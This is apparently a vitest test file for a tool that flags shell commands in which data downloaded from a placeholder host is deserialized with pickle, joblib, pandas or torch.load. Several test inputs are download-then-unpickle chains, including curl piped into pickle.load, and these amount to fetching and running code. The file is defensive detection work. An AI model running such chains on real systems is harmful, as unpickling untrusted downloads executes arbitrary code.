import { describe, expect, test } from 'vitest'
import { lines } from './harness.ts'

/** Data that runs code when it is read, and where it came from. */

const GET = 'curl -o m https://x.example/m'
const RUNS = 'likely execute code:downloaded https://x.example/m'
const told = (text: string): readonly string[] => lines(text).filter((each) => each.includes('execute'))

describe('what was downloaded', () => {
  for (const code of [
    "import pickle; pickle.load(open('m', 'rb'))",
    "import pickle; pickle.loads(open('m', 'rb').read())",
    "import joblib; joblib.load('m')",
    "import pandas; pandas.read_pickle('m')",
    "import torch; torch.load('m')",
    "import torch; torch.load('m', weights_only=False)",
    "import torch as t; t.load(f='m')",
  ]) {
    test(code, () => {
      expect(told(`${GET} && python -c "${code}"`)).toEqual([RUNS])
      expect(told(`wget -O m https://x.example/m; mv m n; python -c "${code.replaceAll("'m'", "'n'")}"`)).toEqual([RUNS])
    })
  }

  test('in a program that the call runs, and by a standard input that is one', () => {
    expect(told(`${GET}; python <<'E'\nimport pickle\npickle.load(open('m', 'rb'))\nE`)).toEqual([RUNS])
    expect(
      told('curl https://x.example/m | python -c "import pickle, sys; pickle.load(sys.stdin.buffer)"').some((each) =>
        each.includes('execute'),
      ),
    ).toBe(true)
  })
})

describe('what is one’s own', () => {
  for (const [text, expected] of [
    ['python -c "import torch; torch.load(\'m\')"', []],
    ['python -c "import torch; torch.load(\'m\', weights_only=True)"', []],
    [`${GET}; python -c "import torch; torch.load('m', weights_only=True)"`, []],
    [`${GET}; python -c "import torch; torch.load('other')"`, []],
    [`${GET}; python -c "import json; json.load(open('m'))"`, []],
    ['python -c "import torch; torch.load(\'m\', weights_only=False)"', ['likely execute code:deserialize torch.load']],
    ["python -c \"import torch; torch.hub.load('o/r', 'net')\"", ['likely execute pkg:run o/r']],
    ["python -c \"import torch; torch.hub.load('o/r:main', 'net')\"", ['likely execute pkg:run o/r']],
    ["python -c \"import torch; torch.hub.load('.', 'net', source='local')\"", []],
  ] as const) {
    test(text, () => expect(told(text)).toEqual(expected))
  }
})
